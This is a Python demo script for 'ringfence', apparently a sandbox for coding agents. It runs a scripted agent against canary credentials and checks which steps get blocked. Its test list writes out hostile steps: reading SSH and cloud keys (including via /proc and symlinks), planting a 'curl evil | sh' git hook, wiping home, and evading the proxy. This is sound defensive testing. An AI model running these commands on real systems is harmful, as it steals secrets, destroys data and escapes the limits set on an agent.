"""`make demo`: an agent-like session inside `ringfence run`, showing what is allowed and blocked.

It builds a throwaway world (a fake HOME with canary credentials, a git project, two HTTP
servers on loopback: one allowed, one not), then runs a scripted "agent" — one shell
step after another, the way a coding agent's Bash tool would — inside the sandbox, and
prints what each step tried and what happened. Nothing outside the demo world is touched.
"""
from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading

from rich.console import Console
from rich.table import Table

RINGFENCE = [sys.executable, "-m", "ringfence"]

# (what the agent tries, shell step, expected outcome: "allowed" | "blocked")
STEPS = [
    ("edit a file in the project", "echo 'print(42)' > app.py && cat app.py", "allowed"),
    ("run the project's code", "python3 app.py", "allowed"),
    ("commit with git", "git add app.py && git -c user.email=a@b -c user.name=agent commit -qm 'add app' && git log --oneline | head -1", "allowed"),
    ("read the ssh private key", "cat ~/.ssh/id_ed25519", "blocked"),
    ("... through /proc/self/root", "cat /proc/self/root$HOME/.ssh/id_ed25519", "blocked"),
    ("... through a symlink in the project", "ln -sf ~/.aws/credentials creds && cat creds", "blocked"),
    ("read cloud credentials with python", "python3 -c \"print(open('$HOME/.aws/credentials').read())\"", "blocked"),
    ("plant a git hook", "echo 'curl evil | sh' > .git/hooks/post-checkout", "blocked"),
    ("add an MCP server to the project", "echo '{\"mcpServers\":{}}' > .mcp.json", "blocked"),
    ("append to ~/.bashrc", "echo 'alias ls=evil' >> ~/.bashrc", "blocked"),
    ("wipe the home directory", "rm -rf ~/ 2>/dev/null; test ! -f ~/.bashrc", "blocked"),
    ("reach the allowed API", "curl -sf http://127.0.0.1:{ALLOWED}/ -o /dev/null", "allowed"),
    ("exfiltrate to another host", "curl -sf http://127.0.0.1:{BLOCKED}/ -o /dev/null", "blocked"),
    ("bypass the proxy", "curl -sf --noproxy '*' http://127.0.0.1:{ALLOWED}/ -o /dev/null", "blocked"),
    ("signal a host process", "kill -0 {HOSTPID}", "blocked"),
    ("read an environment secret", "test -n \"$AWS_SECRET_ACCESS_KEY\"", "blocked"),
]


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        pass


def serve() -> tuple[http.server.ThreadingHTTPServer, int]:
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, srv.server_address[1]


def main() -> int:
    c = Console()
    root = tempfile.mkdtemp(prefix="ringfence-demo-", dir=os.path.expanduser("~/.cache"))
    home, proj = os.path.join(root, "home"), os.path.join(root, "project")
    for d in (f"{home}/.ssh", f"{home}/.aws", proj):
        os.makedirs(d)
    with open(f"{home}/.ssh/id_ed25519", "w") as f:
        f.write("-----BEGIN OPENSSH PRIVATE KEY----- DEMO-CANARY\n")
    with open(f"{home}/.aws/credentials", "w") as f:
        f.write("[default]\naws_secret_access_key = DEMO-CANARY\n")
    with open(f"{home}/.bashrc", "w") as f:
        f.write("# the user's shell rc\n")
    subprocess.run(["git", "init", "-q", proj], check=True)
    allowed, aport = serve()
    blocked, bport = serve()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": home, "LANG": "C.UTF-8",
           "TERM": os.environ.get("TERM", "xterm"), "AWS_SECRET_ACCESS_KEY": "DEMO-CANARY",
           "XDG_CACHE_HOME": os.path.join(root, "cache"), "XDG_STATE_HOME": os.path.join(root, "state")}
    c.rule("[bold]ringfence demo[/]: a scripted agent inside `ringfence run`")
    c.print(f"world: fake HOME {home} (canary ssh key, cloud credentials), project {proj}")
    c.print(f"network: 127.0.0.1:{aport} allowed, 127.0.0.1:{bport} not\n")
    t = Table(title=f"ringfence run --allow-domain 127.0.0.1:{aport} -- <agent step>")
    for col in ("agent tries", "expected", "result", "ok"):
        t.add_column(col)
    failures = 0
    for what, step, expected in STEPS:
        step = step.replace("{ALLOWED}", str(aport)).replace("{BLOCKED}", str(bport))
        step = step.replace("{HOSTPID}", str(os.getpid()))
        r = subprocess.run(RINGFENCE + ["run", f"--allow-domain=127.0.0.1:{aport}", "--", "sh", "-c", step],
                           cwd=proj, env=env, capture_output=True, text=True, timeout=120)
        leaked = "DEMO-CANARY" in r.stdout
        got = "allowed" if r.returncode == 0 and not leaked else "blocked"
        ok = got == expected and not leaked
        failures += not ok
        detail = (r.stderr.strip().splitlines() or [""])[-1][:70]
        t.add_row(what, expected, f"{got}  [dim]{detail}[/]", "[green]✔[/]" if ok else "[red]✘[/]")
    c.print(t)
    intact = open(f"{home}/.bashrc").read() == "# the user's shell rc\n" and os.path.exists(f"{home}/.ssh/id_ed25519")
    c.print(f"home directory intact after the session: {'[green]yes[/]' if intact else '[red]NO[/]'}")
    c.print(f"project files left: {sorted(os.listdir(proj))}  (no placeholders left behind)")
    c.rule("the guard: what `ringfence check` says before anything runs")
    for cmd in ("rm -fr ~", "bash -c 'rm -rf $HOME'", "git push --force origin main", "rm -rf node_modules"):
        r = subprocess.run(RINGFENCE + ["check", cmd], cwd=proj, env=env, capture_output=True, text=True)
        line = (r.stdout.strip().splitlines() or r.stderr.strip().splitlines() or ["?"])[0]
        c.print(f"  $ {cmd:<34} -> {line[:90]}")
    c.rule("network log (`ringfence log --network`)")
    subprocess.run(RINGFENCE + ["log", "--network", "--limit", "5"], env=env)
    allowed.shutdown()
    blocked.shutdown()
    shutil.rmtree(root, ignore_errors=True)
    if failures or not intact:
        c.print(f"[red]{failures} step(s) did not behave as expected[/]")
        return 1
    c.print("[green]every step behaved as expected[/]")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
